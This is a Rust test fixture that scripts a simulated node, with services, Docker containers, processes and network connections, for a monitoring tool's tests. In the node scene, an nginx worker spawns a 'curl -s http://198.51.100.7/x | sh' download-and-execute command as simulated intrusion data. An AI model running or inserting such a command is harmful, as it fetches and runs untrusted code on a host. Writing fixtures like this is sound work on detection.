//! A small node for tests: events as sources tell them, with a clock that only the test moves.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::Arc;

use super::Settings;
use crate::action::{Keymap, help};
use crate::model::{
    Argv, Boot, Caps, Cgroup, ContainerNews, ContainerState, Creds, Direction, Event, Exec, Exit, Fork, GroupKey,
    Health, Image, Kind, Loss, LossKind, Namespaces, Net, NetOp, Place, ProcessEvent, ProcessId, Protocol, Role,
    Runtime, Seen, Status, Text, Ticks, Time,
};

/// 2026-11-23 12:00:00 UTC, when the scene begins.
pub(crate) const NOON: u64 = 1_795_435_200_000_000_000;
/// The node was booted two hours before.
const BOOT: u64 = NOON - 7_200_000_000_000;
/// The full set of capabilities, and Docker's default one.
pub(crate) const FULL: u64 = (1 << 41) - 1;
const DOCKER: u64 = 0xa804_25fb;

pub(crate) const WEB: &str = "3f2a9c1b4d5e8f70112233445566778899aabbccddeeff00112233445566aabb";
pub(crate) const DB: &str = "b81c77d02e4411223344556677889900aabbccddeeff00112233445566778899";

/// Writes events.
pub(crate) struct Scene {
    pub(crate) events: Vec<Event>,
    pub(crate) now: u64,
    groups: HashMap<u32, GroupKey>,
}

/// Settings as of a user who changed nothing.
pub(crate) fn settings() -> Settings {
    Settings { help: help(&Keymap::default()), ..Settings::default() }
}

impl Scene {
    /// The boot alone.
    pub(crate) fn boot() -> Scene {
        let boot = Boot { id: "8c0d-boot".into(), host: "node-7".into(), time: Time(BOOT), namespaces: host_ns() };
        Scene { events: vec![Event::Boot(boot)], now: NOON, groups: HashMap::new() }
    }

    /// A node with a host, three services, kernel threads and two containers.
    pub(crate) fn node() -> Scene {
        let mut s = Scene::boot();
        s.seen(1, 0, GroupKey::Host, &["/sbin/init"], 0);
        s.thread(2, 0);
        s.thread(14, 2);
        s.thread(15, 2);
        s.thread(77, 2);
        s.seen(412, 1, service("ssh.service"), &["sshd: /usr/sbin/sshd -D [listener]"], 0);
        s.seen(530, 1, service("docker.service"), &["/usr/bin/dockerd", "-H", "fd://"], 0);
        s.seen(544, 530, service("docker.service"), &["containerd", "--config", "/var/run/docker/c.toml"], 0);
        s.seen(601, 1, service("cron.service"), &["/usr/sbin/cron", "-f"], 0);
        s.seen(1804, 412, GroupKey::Host, &["sshd: ada [priv]"], 0);
        s.seen(1811, 1804, GroupKey::Host, &["-bash"], 1000);
        s.seen(1950, 1811, GroupKey::Host, &["vim", "notes.txt"], 1000);
        s.container(WEB, "web-1", "registry.local/shop/web:1.25", Some(("web-7d9f", "shop")));
        s.seen(2101, 544, container(WEB), &["nginx: master process nginx -g daemon off;"], 0);
        s.seen(2140, 2101, container(WEB), &["nginx: worker process"], 101);
        s.seen(2141, 2101, container(WEB), &["nginx: worker process"], 101);
        s.listen(2101, "0.0.0.0:80");
        s.container(DB, "db-1", "postgres:17", None);
        s.seen(2300, 544, container(DB), &["postgres", "-D", "/var/lib/postgresql/data"], 999);
        s.seen(2311, 2300, container(DB), &["postgres: checkpointer"], 999);
        s.status("docker", Health::Ok, "Engine 28.1, 2 containers");
        s.connect(2140, "172.17.0.2:48120", "172.17.0.3:5432", Direction::Outbound);
        s.connect(2140, "172.17.0.2:80", "203.0.113.9:51324", Direction::Inbound);
        s.after(1_500);
        s.fork(3001, 2140, 101);
        s.exec(3001, "/usr/bin/bash", &["sh", "-c", "curl -s http://198.51.100.7/x | sh"]);
        s.fork(3002, 3001, 101);
        s.exec(3002, "/usr/bin/curl", &["curl", "-s", "http://198.51.100.7/x"]);
        s.connect(3002, "172.17.0.2:40112", "198.51.100.7:80", Direction::Outbound);
        s.after(40);
        s
    }

    /// Lets milliseconds pass.
    pub(crate) fn after(&mut self, millis: u64) {
        self.now += millis * 1_000_000;
    }

    pub(crate) fn id(&self, pid: u32) -> ProcessId {
        ProcessId { pid, start: Ticks(1_000 + u64::from(pid) * 100) }
    }

    fn push(&mut self, pid: u32, cgroup: Option<GroupKey>, kind: Kind) {
        let cgroup = cgroup.map(|key| {
            self.groups.insert(pid, key.clone());
            let path = match &key {
                GroupKey::Host => "/user.slice/session-3.scope".to_owned(),
                GroupKey::Service(name) => format!("/system.slice/{name}"),
                GroupKey::Container(id) => format!("/system.slice/docker-{id}.scope"),
            };
            let runtime = matches!(key, GroupKey::Container(_)).then_some(Runtime::Docker);
            let place = Place { key, runtime, ..Place::default() };
            Arc::new(Cgroup { id: 1, path: Text::from(path.as_str()), place })
        });
        let process = self.id(pid);
        self.events.push(Event::Process(ProcessEvent { time: Time(self.now), process, tid: pid, cgroup, kind }));
    }

    pub(crate) fn seen(&mut self, pid: u32, parent: u32, group: GroupKey, args: &[&str], uid: u32) {
        let inside = matches!(group, GroupKey::Container(_));
        let seen = Seen {
            parent: (parent != 0).then(|| self.id(parent)),
            image: Some(self.image("", args)),
            born: Time(BOOT + 10_000_000_000 + u64::from(pid) * 1_000_000_000),
            ns_pid: if inside { pid % 100 } else { pid },
            creds: Creds { uid, gid: uid, euid: uid, login_uid: (uid == 1000).then_some(1000), session: None },
            caps: caps(uid, inside),
            namespaces: if inside { own_ns() } else { host_ns() },
            tty: Text::from(if uid == 1000 { "pts/3" } else { "" }),
            connections: Vec::new(),
            stdio: Default::default(),
            fifos: Vec::new(),
        };
        self.push(pid, Some(group), Kind::Seen(Box::new(seen)));
    }

    fn thread(&mut self, pid: u32, parent: u32) {
        let seen = Seen {
            parent: (parent != 0).then(|| self.id(parent)),
            image: None,
            born: Time(BOOT),
            ns_pid: pid,
            creds: Creds::default(),
            caps: caps(0, false),
            namespaces: host_ns(),
            tty: Text::default(),
            connections: Vec::new(),
            stdio: Default::default(),
            fifos: Vec::new(),
        };
        self.push(pid, Some(GroupKey::Host), Kind::Seen(Box::new(seen)));
    }

    fn image(&self, exe: &str, args: &[&str]) -> Image {
        let exe = if exe.is_empty() { args.first().copied().unwrap_or("") } else { exe };
        Image {
            time: Time(self.now),
            exe: Text::from(exe),
            given: Text::default(),
            argv: Argv { args: args.iter().collect(), ..Argv::default() },
            cwd: Text::from("/srv"),
            unlinked: false,
        }
    }

    fn group_of(&self, pid: u32) -> GroupKey {
        self.groups.get(&pid).cloned().unwrap_or_default()
    }

    /// A child of `parent`, in its group.
    pub(crate) fn fork(&mut self, pid: u32, parent: u32, uid: u32) {
        let maker = self.id(parent);
        let creds = Creds { uid, gid: uid, euid: uid, login_uid: None, session: None };
        let group = self.group_of(parent);
        self.push(pid, Some(group), Kind::Fork(Fork { maker, parent: maker, ns_pid: pid, creds }));
    }

    /// Moves a process to the cgroup of a group.
    pub(crate) fn moved(&mut self, pid: u32, group: GroupKey) {
        self.push(pid, Some(group), Kind::Move);
    }

    pub(crate) fn exec(&mut self, pid: u32, exe: &str, args: &[&str]) {
        let group = self.group_of(pid);
        let inside = matches!(group, GroupKey::Container(_));
        let exec = Exec {
            image: Image { given: Text::from(args.first().copied().unwrap_or("")), ..self.image(exe, args) },
            parent: None,
            ns_pid: pid % 100,
            creds: Creds { uid: 101, gid: 101, euid: 101, login_uid: None, session: None },
            caps: caps(101, inside),
            namespaces: if inside { own_ns() } else { host_ns() },
            tty: Text::default(),
            stdio: Default::default(),
            file: None,
        };
        self.push(pid, Some(group), Kind::Exec(Box::new(exec)));
    }

    pub(crate) fn exit(&mut self, pid: u32, code: Option<u8>, signal: Option<u8>) {
        let exit = Exit { code, signal, core: false, run_time: Some(12_000_000), heir: Some(self.id(1)) };
        self.push(pid, None, Kind::Exit(exit));
    }

    /// Into the cgroup of another group.
    pub(crate) fn moves(&mut self, pid: u32, to: GroupKey) {
        self.push(pid, Some(to), Kind::Move);
    }

    pub(crate) fn connect(&mut self, pid: u32, local: &str, remote: &str, direction: Direction) {
        let op = if direction == Direction::Inbound { NetOp::Accept } else { NetOp::Established };
        self.net(pid, op, direction, local.parse().ok(), remote.parse().ok());
    }

    fn listen(&mut self, pid: u32, local: &str) {
        self.net(pid, NetOp::Listen, Direction::Listening, local.parse().ok(), None);
    }

    fn net(
        &mut self,
        pid: u32,
        op: NetOp,
        direction: Direction,
        local: Option<SocketAddr>,
        remote: Option<SocketAddr>,
    ) {
        let socket = 0xffff_0000 + self.events.len() as u64;
        let (protocol, sent, received, error) = (Protocol::Tcp, None, None, None);
        let net = Net { op, protocol, direction, local, remote, socket, sent, received, error };
        self.push(pid, None, Kind::Net(Box::new(net)));
    }

    pub(crate) fn container(&mut self, id: &str, name: &str, image: &str, pod: Option<(&str, &str)>) {
        self.events.push(Event::Container(ContainerNews {
            addresses: Vec::new(),
            time: Time(self.now),
            id: id.into(),
            name: Some(name.into()),
            image: Some(image.into()),
            runtime: Some(Runtime::Docker),
            pod: pod.map(|(pod, _)| pod.into()),
            namespace: pod.map(|(_, namespace)| namespace.into()),
            labels: [("app".to_owned(), name.to_owned()), ("tier".to_owned(), "front".to_owned())].into(),
            state: ContainerState::Running,
            role: None,
        }));
    }

    /// The sandbox of a pod.
    pub(crate) fn pause(&mut self, id: &str, (pod, namespace): (&str, &str)) {
        self.events.push(Event::Container(ContainerNews {
            time: Time(self.now),
            id: id.into(),
            runtime: Some(Runtime::Containerd),
            pod: Some(pod.into()),
            namespace: Some(namespace.into()),
            state: ContainerState::Running,
            role: Some(Role::Sandbox),
            ..ContainerNews::default()
        }));
    }

    pub(crate) fn status(&mut self, topic: &str, health: Health, text: &str) {
        let status = Status { time: Time(self.now), topic: topic.into(), health, text: text.into() };
        self.events.push(Event::Status(status));
    }

    pub(crate) fn loss(&mut self, kind: LossKind, count: u64) {
        let (from, to) = (Time(self.now - 1_000_000), Time(self.now));
        self.events.push(Event::Loss(Loss { time: to, kind, count, from, to, group: None }));
    }
}

pub(crate) fn service(name: &str) -> GroupKey {
    GroupKey::Service(name.into())
}

pub(crate) fn container(id: &str) -> GroupKey {
    GroupKey::Container(id.into())
}

fn caps(uid: u32, inside: bool) -> Caps {
    let set = match (uid, inside) {
        (0, false) => FULL,
        (0, true) => DOCKER,
        _ => 0,
    };
    Caps { effective: set, permitted: set }
}

fn host_ns() -> Namespaces {
    Namespaces([
        4_026_531_841,
        4_026_531_836,
        4_026_531_840,
        4_026_531_839,
        4_026_531_838,
        4_026_531_835,
        4_026_531_837,
        4_026_531_834,
    ])
}

/// A container's: its own, but for the user and time namespaces.
fn own_ns() -> Namespaces {
    Namespaces([
        4_026_532_201,
        4_026_532_204,
        4_026_532_206,
        4_026_532_203,
        4_026_532_202,
        4_026_532_205,
        4_026_531_837,
        4_026_531_834,
    ])
}
